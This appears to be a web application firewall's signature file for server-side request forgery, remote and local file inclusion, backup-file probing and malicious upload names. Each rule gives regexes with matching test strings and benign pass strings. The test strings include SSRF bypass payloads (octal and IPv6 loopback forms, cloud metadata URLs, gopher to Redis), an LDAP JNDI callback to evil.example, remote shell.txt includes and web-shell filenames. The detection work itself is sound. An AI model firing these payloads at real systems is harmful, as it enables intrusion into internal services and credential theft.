# Server-side request forgery and file access (ids 300008000-300008999): hosts written so that a
# naive check does not see the internal address (integer, hex, octal and mixed forms, IPv6
# literals, enclosed alphanumerics, ideographic dots, escaped letters), URL parsers confused by
# credentials and encoded separators, cloud metadata services, unusual schemes; files and
# directories an application never serves (kernel interfaces, tool configuration, secrets).
# Format: see src/waf/signatures/db.rs. Pass examples are drawn from real traffic.

id: 300008001
name: SSRF: internal address written as an integer, in hex or octal, or in a short form
type: Server-Side Request Forgery (SSRF)
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: http:
literal: https:
literal: ftp:
literal: ftps:
literal: gopher:
literal: dict:
literal: ldap:
literal: ldaps:
literal: ssh:
literal: sftp:
literal: smb:
literal: tftp:
literal: ws:
literal: wss:
literal: jar:
literal: netdoc:
literal: acap:
literal: imap:
literal: irc:
literal: pop3:
literal: rtmp:
literal: rtsp:
literal: telnet:
literal: file:
literal: ://
regex: (?:\b(?:https?|ftps?|gopher|dict|ldaps?|ssh|sftp|smb|tftp|wss?|jar|netdoc|acap|imap|irc|pop3|rtmp|rtsp|telnet|file):/{0,2}|\b[a-z][a-z0-9+.-]{1,15}://)(?:[^/@\s]*@)?(?:\d{8,10}|0x[0-9a-f]{8,16}|0x[0-9a-f]{1,2}(?:\.0x[0-9a-f]{1,2}){1,3}|0[0-7]{1,3}(?:\.0+[0-7]{0,3}){1,3}|0[0-7]{9,11}|\d{1,3}\.\d{4,8}|\d{1,3}\.\d{1,3}\.\d{4,5}|(?:25[6-9]|2[6-9]\d|[3-9]\d\d)\.\d{1,3}\.\d{1,3}\.\d{1,3}|\d{1,3}\.(?:25[6-9]|2[6-9]\d|[3-9]\d\d)\.\d{1,3}\.\d{1,3}|\d{1,3}\.\d{1,3}\.(?:25[6-9]|2[6-9]\d|[3-9]\d\d)\.\d{1,3}|\d{1,3}\.\d{1,3}\.\d{1,3}\.(?:25[6-9]|2[6-9]\d|[3-9]\d\d))(?:[:/?#\\]|$)
test: http://2130706433/
test: http://0xA9.0xFE.0xA9.0xFE/
test: http://0x41414141A9FEA9FE/
test: http://0251.0376.0251.0376/
test: ssh://0177.00.00.01
test: rtmp://017700000001
test: http://169.254.43518/
test: http://169.16689662/
test: http:123456789
# Dotted numbers with an octet past 255 are no address; parsers that wrap each part modulo 256
# read them as one (`383.256.256.257` is 127.0.0.1).
test: http://383.256.256.257/
test: http://425.510.425.510/latest/
test: /proxy/http:/2130706433/admin
pass: string:1665619818
pass: repository:1340691923/ElasticView
pass: https://www.example.com/order/12345678
pass: tel:+12025550123
pass: https://cdn.example.com:8443/a.js
pass: http://203.0.113.254/status

id: 300008002
name: SSRF: IPv6 literal host (mapped IPv4, link-local, zone ids)
type: Server-Side Request Forgery (SSRF)
accuracy: medium
risk: high
targets: @values, header, url, param-name
unless: binary
literal: http:
literal: https:
literal: ftp:
literal: ftps:
literal: gopher:
literal: dict:
literal: ldap:
literal: ldaps:
literal: ssh:
literal: sftp:
literal: smb:
literal: tftp:
literal: ws:
literal: wss:
literal: jar:
literal: netdoc:
literal: acap:
literal: imap:
literal: irc:
literal: pop3:
literal: rtmp:
literal: rtsp:
literal: telnet:
literal: file:
literal: ://
regex: (?:\b(?:https?|ftps?|gopher|dict|ldaps?|ssh|sftp|smb|tftp|wss?|jar|netdoc|acap|imap|irc|pop3|rtmp|rtsp|telnet|file):/{0,2}|\b[a-z][a-z0-9+.-]{1,15}://)(?:[^/@\s]*@)?(?:\[[0-9a-f:.]*:[0-9a-f:.]*(?:%[\w-]+)?\]|(?:0{0,4}:){1,7}:?(?:0{0,4}:){0,6}0{0,3}1?(?::\d{1,5})?(?:[/?#]|$))
test: /fetch/http:/[::ffff:127.0.0.1]/
test: http://[::ffff:a9fe:a9fe]
test: http://[0:0:0:0:0:ffff:a9fe:a9fe]
test: http://[fe80::%zone1]
test: http:[::ffff:a9fe:a9fe]
# The loopback address without its brackets: lenient URL parsers take it as the host.
test: http://0000::1:80/
test: http://::1/admin
test: http://[dead:beef:dead::beef:dead:beef:dead]
pass: a[b:c] text
pass: https://example.com/list[0]
pass: https://example.com:443/
pass: http://user:pw@example.com/

id: 300008003
name: SSRF: host hidden by Unicode look-alikes or escapes
type: Server-Side Request Forgery (SSRF)
accuracy: high
risk: high
targets: @values, header, param-name
unless: binary
literal: ://
regex: ://(?:[^/\s]*?(?:\xe2\x91[\xa0-\xbf]|\xe2\x92[\x80-\xbf]|\xe2\x93[\x80-\xbf]|\xe3\x80\x82|\xef\xbc\x8e|\xef\xbd\xa1)){2}|://(?:\\[a-z0-9.]){4}
test: acap://①②⑦.⓪.⓪.①
test: irc://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ
test: http://169。254。169。254/
test: http://\\l\\o\\c\\a\\l\\h\\o\\s\\t/
pass: https://例子.测试/页面
pass: https://example.com/②

id: 300008004
name: SSRF: URL whose authority confuses parsers (credentials, encoded slash, fragment)
type: Server-Side Request Forgery (SSRF)
accuracy: high
risk: high
# One value: in a whole query string or form body `&` separates parameters.
targets: param-value, cookie, json, xml, header, param-name
unless: binary
literal: @
regex: \b(?:https?|ftp|gopher|dict|ldap)://[^/@\s]*(?:%2f|%5c|\\|\s|%20|&|#|%23)[^/\s]*@|\b(?:https?|ftp)://[^/\s@]*@[^/\s@]*@
test: http://example.com%2f@evil.com/
test: http://google.com:80 &@127.88.23.245:22/#
test: http://example.com%2f:foo@bar@evil.com/
pass: https://user@example.com/path
pass: mailto:someone@example.com

id: 300008005
name: SSRF: cloud and container metadata services
type: Server-Side Request Forgery (SSRF)
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: 192.0.0.192
literal: 168.63.129.16
literal: 169.254.170.2
literal: metadata
literal: 100.100.100.200
regex: \b192\.0\.0\.192\b|\b168\.63\.129\.16\b|\b169\.254\.170\.2\b|://metadata(?:\.\w+)*(?:[:/]|$)|/(?:opc/v[12]/instance|metadata/identity/oauth2/token|openstack/latest/meta_data\.json|v1/credentials|computeMetadata/v1)\b
test: http://192.0.0.192/latest/user-data/
test: http://168.63.129.16/machine?comp=goalstate
test: http://metadata/computeMetadata/v1/
pass: metadata about the product

id: 300008006
name: SSRF and file access: unusual URL schemes
type: Server-Side Request Forgery (SSRF)
accuracy: high
risk: high
targets: @values, header, param-name
unless: binary
literal: local_file:
literal: file:
literal: netdoc:
literal: jar:
literal: ldap:
literal: dict:
literal: gopher:
regex: \blocal_file:|\b(?:netdoc|gopher|dict):/{0,2}\S|\bfile:(?:\\\\|/{4,}|///?[a-z]:)|\bjar:[a-z]+:
test: local_file://something
test: file:////etc/passwd
test: file:///c:/windows/win.ini
pass: the file: report.pdf

id: 300008007
name: Local file inclusion: kernel and process interfaces
type: Path Traversal
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: /proc/
literal: /sys/
literal: /dev/
regex: (?:^|[^\w.-])/proc/(?:self|\d+|sys|net|version|cmdline|environ|cpuinfo|meminfo|mounts|kallsyms|kcore|sched_debug|thread-self)\b|(?:^|[^\w.-])/sys/(?:class|kernel|devices|module|block|firmware|fs|power|bus|hypervisor)\b|(?:^|[^\w.-])/dev/(?:mem|kmem|port|shm|mqueue|fd/|stdin|stdout|stderr|tty\w*|null|zero|random|urandom)\b
test: /sys/class
test: /proc/sys/kernel/randomize_va_space
test: /proc/self/environ
pass: /products/system/class-a
pass: https://example.com/dev/null-handling

id: 300008008
name: Local file access: tool, agent and secret configuration directories
type: Path Traversal
accuracy: high
risk: medium
targets: url, @values, param-name
unless: binary
literal: /.
regex: (?:^|/)\.(?:git|svn|hg|bzr|cvs|env|aws|ssh|gnupg|docker|kube|npmrc|pypirc|netrc|pgpass|vscode|idea|htaccess|htpasswd|bash_history|zsh_history|mysql_history|python_history|psql_history|sqlite_history|node_repl_history|rediscli_history|viminfo|git-credentials|gitconfig|dockerenv|boto|s3cfg|ds_store|claude|cursor|continue|aider|roo|zed|cline|kiro|windsurf|rovodev|codex|opencode|a0proj|plandex|fabric|n8n|junie|gemini|copilot|codeium|tabnine|sourcegraph|amazonq|devcontainer|terraform|azure|gcloud|config/(?:gcloud|gh|hub|rclone))(?:\.[\w-]+)*(?:/[\w./-]*)?(?:$|[?#])
test: /.claude/settings.json
test: /app/.claude/settings.local.json
test: /.git/config
test: /.env
test: /.kiro/hooks/preToolUse.sh
test: /.git-credentials
test: /home/app/.psql_history
test: /.dockerenv
pass: /.well-known/acme-challenge/token
pass: /.github/workflows/ci.yml
pass: /css/main.env-blue.css

id: 300008009
name: Remote file inclusion: URL in a parameter that names a path or configuration
type: Remote File Include
accuracy: high
risk: high
targets: query, body
unless: binary
literal: ://
regex: (?:^|[&?])(?:_?conf(?:ig)?\[\w+\]|mosconfig_\w+|include_path|includedir|include_dir|path_to_root|phpbb_root_path|root_path|rootpath|abs(?:olute)?_?path|basepath|base_path|base_dir|lib_path|libdir|class_path|template_path|module_path|appdir|app_path|pear_path|gallery_basedir|dir\[\w+\])\s*=\s*(?:https?|ftps?|php|data|expect|zip|phar)://
test: _CONF[path]=https://foo.bar
test: mosConfig_absolute_path=https://foo.bar
test: a=1&include_path=http://evil.example/shell.txt
pass: redirect_uri=https://example.com/callback
pass: return_path=/account

id: 300008010
name: Remote file inclusion: URL ending in a question mark
type: Remote File Include
accuracy: medium
risk: high
targets: query, param-value, param-name, cookie
unless: binary
literal: ?
regex: ^\s*(?:https?|ftps?|file|php)://[^\s?]*\?+\s*$|^\s*(?:https?|ftps?)://\S+\?{2,}\s*$
test: https://foo.bar?
test: http://evil.example/shell.txt?
pass: https://example.com/page?id=1
pass: what?

id: 300008011
name: Local file access: database dump, site backup archive or backup copy of a script or configuration file
type: Path Traversal
accuracy: medium
risk: medium
targets: url, param-value
unless: binary
literal: .sql
literal: .bak
literal: .old
literal: .orig
literal: .swp
literal: .swo
literal: .save
literal: .tmp
literal: .copy
literal: ~
literal: backup
literal: dump
literal: .zip
literal: .tar
literal: .tgz
literal: .rar
literal: .7z
regex: (?:^|[/\=])[\w.-]*\.(?:sql|dump)(?:\.(?:gz|bz2|xz|zip|tar|tgz|7z|rar))?$|\.(?:php\d?|phtml|inc|asp|aspx|jsp|config|conf|cfg|ini|ya?ml|env|py|rb|pl|cgi|sh|htaccess)(?:\.(?:bak|old|orig|save|swp|swo|tmp|copy)|~)$|(?:^|[/\=])(?:backup|backups|bak|dump|db|database|www|wwwroot|site|web|html|htdocs|public_html|sql)\.(?:zip|tar|tar\.gz|tgz|gz|rar|7z|sql)$|(?:^|[/\=])[\w-]*(?:backup|dump)[\w-]*\.(?:sql|zip|tar|tar\.gz|tgz|gz|rar|7z)$
test: /backup.sql.gz
test: /db.sql
test: /wp-config.php.bak
test: /www.zip
test: /site-backup-2024.tar.gz
test: /index.php.orig
test: /.index.php.swp
test: /config/settings.yml.old
test: /index.php~
pass: /downloads/report-2024.zip
pass: /static/app.js
pass: /docs/sql-tutorial.html
pass: /assets/old-logo.png
pass: /db.bak
pass: /files/notes.old

id: 300008012
name: File upload: server-side script or configuration file, by the name it is to be stored under
type: Remote File Include
accuracy: high
risk: high
targets: filename
unless: binary
literal: .
regex: \.\s*(?:php\d?|phtml|phar|pht|phps|pgif|shtml|asp|aspx|asa|asax|ascx|ashx|asmx|cer|jsp|jspx|jspf|cfm|cgi)\s*(?:\.\s*[\w-]{1,8}\s*|[;:][^/\\]*)?$|(?:^|[/\\])\s*(?:\.htaccess|\.htpasswd|\.user\.ini|web\.config|wp-config(?:[\w.-]*)|(?:settings|config|configuration|local|database|secrets?|credentials|parameters|application)\s*\.\s*(?:php|inc|ya?ml|ini|conf|cfg|json|xml|toml|env|properties)|\.env(?:\.[\w-]+)?|\.boto|\.npmrc|\.pypirc|\.netrc|\.git-credentials|\.bash_profile|\.bashrc|\.profile|\.ssh/authorized_keys|authorized_keys|id_(?:rsa|dsa|ecdsa|ed25519))\s*$
test: shell.php
test: test. php.jpg
test: test.phar .png
test: avatar.php5.gif
test: settings. php
test: config.yml 
test: wp-config_php.txt
test: .htaccess
test: web.config
test: ../../.ssh/authorized_keys
test: shell.asp;.jpg
test: up.php;1.png
test: cmd.aspx::$DATA
test: x.php:.jpg
pass: holiday-photo.jpg
pass: notes.php;v2 draft/readme.txt
pass: report.pdf
pass: my.php.notes.docx
pass: config-guide.pdf
pass: php-tutorial.zip

id: 300008013
name: SSRF: URL to a loopback or private address with the scheme's slashes left out
# URL parsers that follow the WHATWG rules read `http:127.0.0.1`, `http:/10.0.0.1` and
# `http:\\localhost` as `http://...`, while a filter looking for `://` does not see a URL. The
# literals are the scheme and what follows it in this form only, so an ordinary `http://` URL, in
# every Referer and many JSON bodies, wakes no regex run.
type: Server-Side Request Forgery (SSRF)
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: http:l
literal: http:1
literal: http:0
literal: http:[
literal: http:/l
literal: http:/1
literal: http:/0
literal: http:/[
literal: http:\\
literal: https:l
literal: https:1
literal: https:0
literal: https:[
literal: https:/l
literal: https:/1
literal: https:/0
literal: https:/[
literal: https:\\
literal: ftp:l
literal: ftp:1
literal: ftp:0
literal: ftp:[
literal: ftp:/l
literal: ftp:/1
literal: ftp:/0
literal: ftp:/[
literal: ftp:\\
literal: ftps:l
literal: ftps:1
literal: ftps:0
literal: ftps:[
literal: ftps:/l
literal: ftps:/1
literal: ftps:/0
literal: ftps:/[
literal: ftps:\\
literal: gopher:l
literal: gopher:1
literal: gopher:0
literal: gopher:[
literal: gopher:/l
literal: gopher:/1
literal: gopher:/0
literal: gopher:/[
literal: gopher:\\
literal: dict:l
literal: dict:1
literal: dict:0
literal: dict:[
literal: dict:/l
literal: dict:/1
literal: dict:/0
literal: dict:/[
literal: dict:\\
regex: \b(?:https?|ftps?|gopher|dict):(?:/|\\{1,2})?(?:localhost\b|127(?:\.\d{1,3}){1,3}\b|0(?:\.0){3}\b|\[[0:]*:1?\]|169\.254\.\d|10\.\d{1,3}\.\d{1,3}\.\d|192\.168\.\d|172\.(?:1[6-9]|2\d|3[01])\.\d)
test: http:127.0.0.1
test: https:/localhost:8080/admin
test: http:\\169.254.169.254/latest
test: gopher:10.0.0.5:6379/_INFO
pass: http://127.0.0.1
pass: https://example.com/
pass: time: 10.0.0.1


id: 300008201
name: Remote file inclusion: a value that is wholly a URL to a numeric IPv4 host
# Applications link to host names; a parameter that is nothing but a URL to a bare address is
# what an include or a fetch is pointed at when the attacker's server has no name (private
# and loopback addresses are 300006001's, and are left out here so that a policy change to one
# signature is enough for them). Pages reached by address send their own URL in
# `Referer` and `Origin`, which this does not read. The literals are what only such a URL holds
# (a digit right after `://`, or after the `@` of user information), so a link to a named host
# wakes no regex run.
type: Remote File Include
accuracy: medium
risk: high
targets: @values, param-name
unless: binary
literal: ://1
literal: ://2
literal: ://3
literal: ://4
literal: ://5
literal: ://6
literal: ://7
literal: ://8
literal: ://9
literal: @1
literal: @2
literal: @3
literal: @4
literal: @5
literal: @6
literal: @7
literal: @8
literal: @9
regex: ^\s*(?:https?|ftps?)://(?:[^/?#@\s]*@)?(?:(?:[1-9]|1[1-9]|[2-9]\d|1[01]\d|12[0-689]|1[3-5]\d|16[0-8]|17[013-9]|18\d|19[0-13-9]|2[0-4]\d|25[0-5])(?:\.\d{1,3}){3}|(?:169\.(?:\d\d?|1\d\d|2[0-4]\d|25[0-35])|172\.(?:\d|1[0-5]|3[2-9]|[4-9]\d|[12]\d\d)|192\.(?:\d\d?|1[0-57-9]\d|16[0-79]|2\d\d))(?:\.\d{1,3}){2})(?::\d{1,5})?(?:[/?#]\S*)?\s*$
test: http://203.0.113.7/
test: https://198.51.100.2:8080/shell.txt
test: ftp://user:pw@203.0.113.9/x
test: http://172.32.0.1/
test: http://192.169.1.1/x.txt
test: http://169.255.0.1/
pass: http://127.0.0.1/home
pass: http://10.0.0.5:8080/
pass: http://192.168.1.1/
pass: http://172.16.0.1/
pass: http://169.254.169.254/latest/
pass: http://mmbiz.qpic.cn/mmbiz_png/Fuleibl6qMuqy3z1PNoOSxgQbUqYibAcIb722vbFGdP1gfxibthFf1IibTt/0?wx_fmt=png
pass: https://www.csdn.net/
pass: see http://203.0.113.7/ for the mirror
pass: https://cdn.example/1.2.3.4/lib.js

id: 300008202
name: Remote file inclusion: a value that is wholly an FTP URL to a bare host
# Browsers dropped FTP and applications no longer link to FTP servers' roots: a bare `ftp://`
# host in a parameter is a fetch or an include (PHP opens `ftp://` URLs) being tried.
type: Remote File Include
accuracy: medium
risk: high
targets: @values, param-name
unless: binary
literal: ftp://
literal: ftps://
regex: ^\s*ftps?://[^/?#\s]+/?\s*$
test: ftp://foo.bar
test: ftps://files.example.org/
pass: ftp://ftp.debian.org/debian/README
pass: ftp is a protocol: ftp://
pass: https://www.csdn.net/

id: 300008203
name: Remote file inclusion: URL in a parameter named for a file, template or module
# What an application includes is named `file`, `page`-like names aside (they carry links and
# page numbers), `include`, `template`, `module`, `lang`, `theme`, `dir`: a URL there, absolute or
# protocol-relative, is the remote inclusion itself. Real traffic carries URLs in `url`, `ref`,
# `from`, `redirect_uri`, `page`, `href`, `src`, which this leaves alone. The literals are the
# names with their `=`, so a query that carries a URL elsewhere wakes no regex run.
type: Remote File Include
accuracy: high
risk: high
targets: query, body
unless: binary
literal: file=
literal: filename=
literal: filepath=
literal: file_path=
literal: path=
literal: include=
literal: inc=
literal: incl=
literal: require=
literal: template=
literal: tpl=
literal: layout=
literal: module=
literal: mod=
literal: lang=
literal: language=
literal: theme=
literal: skin=
literal: dir=
literal: folder=
literal: doc=
literal: document=
literal: conf=
literal: config=
literal: cfg=
literal: load=
literal: plugin=
literal: lib=
regex: (?:^|[&?;])(?:file|filename|filepath|file_path|path|include|inc|incl|require|template|tpl|layout|module|mod|lang|language|theme|skin|dir|folder|doc|document|conf|config|cfg|load|plugin|lib)=\s*(?:(?:https?|ftps?|php|data|expect|zip|phar|file)://|//)[^\s&/]
test: file=https://evil.example/shell.txt
test: id=3&include=http://203.0.113.7/x
test: template=//evil.example/t
test: lang=ftp://evil.example/en.php
pass: url=https://www.csdn.net/&ref=https://www.csdn.net/
pass: redirect_uri=https://www.feishu.cn/drive/home/
pass: page=https://segmentfault.com/a/1190000007926959
pass: profile=https://example.com/u/1
pass: file=report.pdf&path=/docs/2024

id: 300008204
name: Local file access: a project's build, dependency or deployment file requested as a page
# These files sit at the root of a source tree and say which packages and versions run, how
# the site is built and deployed: a site serves none of them to browsers, and a scanner asks
# for each in turn. (A package CDN serves `package.json`, which is left out.)
type: Predictable Resource Location
accuracy: medium
risk: medium
targets: url
unless: binary
literal: composer.
literal: yarn.lock
literal: package-lock.json
literal: pnpm-lock.yaml
literal: npm-debug.log
literal: yarn-error.log
literal: dockerfile
literal: docker-compose.
literal: .gitignore
literal: .gitlab-ci.yml
literal: .travis.yml
literal: jenkinsfile
literal: vagrantfile
literal: gemfile
literal: phpunit.xml
regex: (?:^|/)(?:composer\.(?:json|lock)|yarn\.lock|package-lock\.json|pnpm-lock\.yaml|npm-debug\.log|yarn-error\.log|dockerfile|docker-compose\.ya?ml|\.gitignore|\.gitlab-ci\.yml|\.travis\.yml|jenkinsfile|vagrantfile|gemfile(?:\.lock)?|phpunit\.xml(?:\.dist)?)$
test: /composer.json
test: /app/yarn.lock
test: /Dockerfile
test: /docker-compose.yml
test: /.gitignore
test: /vendor/phpunit.xml.dist
pass: /npm/react@18.2.0/package.json
pass: /docs/dockerfile-best-practices
pass: /rc-virtual-list@3.5.2/lib/hooks/useHeights.js
pass: /api/v2/composer/list

id: 300008601
name: Remote file inclusion: a URL embedded in the URL path
# A path holds the site's own names. A segment that starts a URL of a scheme no page links
# with (`/file:///etc/passwd`, `/gopher://127.0.0.1:6379/_…`, `/x/php://filter/…`) is there
# for a route that hands the rest of the path to an include, a fetch or a proxy. `http` and
# `https` are left out: ad exchanges' cookie-sync routes carry the partner's URL as a path
# segment (`/check_uuid/https%3A%2F%2Fprebid-server…`). The path is seen with its slashes
# merged, so one slash after the colon is enough; a segment such as OneDrive's `root:` names
# no scheme.
type: Remote File Include
accuracy: medium
risk: high
targets: url
unless: binary
literal: :/
regex: (?:^|/)(?:ftps?|sftp|tftp|file|gopher|dict|php|phar|jar|zip|glob|expect|ldaps?|smb|netdoc|jdbc|rmi|ssh2(?:\.[a-z]+)?|ogg|rar|compress\.(?:zlib|bzip2)|view-source):/
test: /index.php/ftp:/evil.example/shell.txt
test: /file:/etc/passwd
test: /gopher:/127.0.0.1:6379/_INFO
test: /x/php:/filter/resource=index
test: /proxy/Gopher:/evil.example/
pass: /v1.0/me/drive/root:/【技术支持工程师_深圳】
pass: /npm/https-proxy-agent@7.0.2/dist/index.js
pass: /check_uuid/https:/prebid-server.rubiconproject.com/setuid?bidder=grid
pass: /amd_modules/@baidu/search-sug/index.js

id: 300008351
name: Remote file inclusion: an http(s) URL written into the path as a segment
# A route that hands the rest of its path to an include, a fetch or a redirect
# (`/index.php/http://evil.example/shell.txt`, `/redirect/https:%2f%2fevil.example`) is given
# another host's URL where its own file names go. Clients that put a URL into a path segment
# build the segment with `encodeURIComponent`, which escapes the colon (ad exchanges'
# cookie-sync routes: `/check_uuid/https%3A%2F%2Fprebid-server…`); a scheme whose colon is
# written as it is was typed by hand. The decoded path cannot tell the two apart, so the path
# check (`policy/checks/path_url.rs`) finds such a segment in the raw target, drops the ones to
# the site's own host, and reports it as this signature; the decoded path, whose slashes are
# merged and which starts with `/`, never matches. The path's decoded views do when a segment is
# a URL under one more encoding (base64, percent-encoded twice, character references): the same
# route given the same URL, hidden from a filter that decodes once. A click tracker that writes
# its destination into the path as base64 is the exception real traffic may hold (dev-blaze's
# benign requests have none).
type: Remote File Include
accuracy: medium
risk: high
targets: url
unless: binary
literal: ://
regex: ^https?://[^/\\\s]
test: http://evil.example/shell.txt
test: https://evil.example/x?
test: HTTPS://203.0.113.9/a
pass: /check_uuid/https:/prebid-server.rubiconproject.com/setuid?bidder=grid
pass: /activityi;src=5406241;type=global;cat=wac-v0;~oref=https:/www.atlassian.com/software/jira/demo
pass: /amd_modules/@baidu/search-sug/index.js

id: 300008352
name: SSRF: a URL of a scheme that web pages do not link with (sftp, LDAP, RMI, NFS, telnet, nested jar)
# A server-side fetch that follows any scheme its URL library knows reaches file transfer,
# directory, object-broker and terminal services with them: `sftp://` and `ldap://` to an
# attacker's host (the classic JNDI and key-exchange callbacks), `rmi://`, `iiop://`, `nfs://`,
# `telnet://`, and Java's `jar:` around another URL (`jar:http://evil.example/x.jar!/a.class`),
# which loads code from it. Browsers and pages link with none of these, so a value, header or
# path that carries one to any host is not a link somebody followed; `ldap://` as a whole value
# (a directory setting) and `tftp`, `gopher`, `dict`, `netdoc` are 300006002's.
type: Server-Side Request Forgery (SSRF)
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: sftp:
literal: ldap:
literal: ldaps:
literal: ldapi:
literal: rmi:
literal: iiop:
literal: nfs:
literal: telnet:
literal: jar:
regex: \b(?:sftp|ldaps?|ldapi|rmi|iiop|nfs|telnet):/{1,2}[\w\[%.@-]|\bjar:[a-z][a-z0-9+.-]{1,10}:/
test: sftp://evil.example:22/
test: {"cb":"ldap://evil.example:1389/Exploit"}
test: url=rmi://203.0.113.5:1099/obj
test: /proxy/jar:http:/evil.example/x.jar!/a.class
test: telnet://evil.example:23
pass: {"n":"file:///vscode/resources/letterpress-dark.svg","s":26602.9,"d":0}
pass: /v1/mss_e2821d7f0cfe4ac1bf9202ecf9590e67/cdn-prod/file:38b50ca6/touch/js/component/header_menu-b3a850be.js
pass: connect-src 'self' data: wss://*.bilibili.com:* *.bilibili.com

id: 300008801
name: SSRF: URL to a loopback host spelled as a name that resolves to it
# Every name under `localhost` resolves to the loopback address (`app.localhost`), as does
# `localhost.` with its root dot, which a filter comparing the host with `localhost` misses;
# public wildcard names point at 127.0.0.1 for developers (`lvh.me`, `vcap.me`, `localtest.me`,
# `fuf.me`, `localho.st`), and `ip6-localhost` is the hosts file's name for `::1`. A filter that
# resolves nothing passes them and the server connects to itself. QQ's login helpers are
# public hosts whose first label is `localhost` and are not matched.
type: Server-Side Request Forgery (SSRF)
accuracy: high
risk: high
targets: @values, url, param-name
unless: binary
literal: localhost
literal: lvh.me
literal: vcap.me
literal: localtest.me
literal: fuf.me
literal: localho.st
literal: lacolhost
literal: ip6-lo
regex: \b(?:https?|ftps?|gopher|dict|ldaps?|sftp|tftp|wss?|jar|netdoc|smb|telnet|file):/{0,2}(?:[^/@\s]*@)?(?:localhost\.|[\w-]+(?:\.[\w-]+)*\.localhost\.?|(?:[\w-]+\.)*(?:lvh\.me|vcap\.me|localtest\.me|fuf\.me|localho\.st|lacolhost\.com)\.?|localhost\.localdomain|ip6-(?:localhost|loopback))(?:[:/?#\\]|$)
test: http://localhost./admin
test: http://admin.localhost:8080/
test: https://lvh.me/
test: http://customer1.vcap.me:6379/
test: /proxy/http:/lvh.me/server-status
test: gopher://ip6-localhost:25/_HELO
pass: https://localhost.ptlogin2.qq.com:4301/pt_get_uins
pass: https://localhost.sec.qq.com:9410/
pass: http://sh3ll.me/atom.xml

id: 300008802
name: Remote file inclusion: remote script or text file cut short by an empty fragment or query
# An include that appends its own suffix (`include($_GET['page'] . '.php')`) is given the URL
# of a script or text file ending in `#` or `?`, so the suffix becomes a fragment or a query the
# remote server ignores; written scheme-relative (`//evil.example/shell.txt?`) it carries no
# scheme for a filter to see. Pages end in an empty fragment (`https://pvp.qq.com/#`) and
# resource-timing beacons report image and API URLs ending in `?`: only a file an interpreter
# runs or a text file is matched, and an absolute URL ending in `?` is 300008010's. A raw body,
# an uploaded file or an XML text that is wholly such a URL is the same include handed over by
# an API that reads its argument from the body.
type: Remote File Include
accuracy: medium
risk: high
targets: query, param-value, param-name, cookie, json, body, xml
unless: binary
literal: #
literal: ?
regex: ^\s*(?:(?:https?|ftps?):)?//[^\s?#/]+/[^\s?#]*\.(?:txt|php\d?|phtml|phar|inc|pl|py|rb|sh|cgi|asp|aspx|jsp|jspx|cfm)#+\s*$|^\s*//[^\s?#/]+/[^\s?#]*\.(?:txt|php\d?|phtml|phar|inc|pl|py|rb|sh|cgi|asp|aspx|jsp|jspx|cfm)\?+\s*$
test: http://evil.example/shell.txt#
test: //evil.example/shell.txt?
test: https://evil.example/c99.php##
pass: https://pvp.qq.com/#
pass: https://p3-juejin.byteimg.com/tos-cn-i-k3u1fbpfcp/c8df425e86a5492e8da74f3899b5cdd2~tplv-k3u1fbpfcp-no-mark:240:240:240:160.awebp?
pass: https://codesandbox.io/cdn-cgi/rum?
pass: https://auth.huaweicloud.com/authui/login.html?service=https%3A%2F%2Factivity.huaweicloud.com%2F#
pass: //kns.cnki.net/kns8/defaultresult/index
pass: #
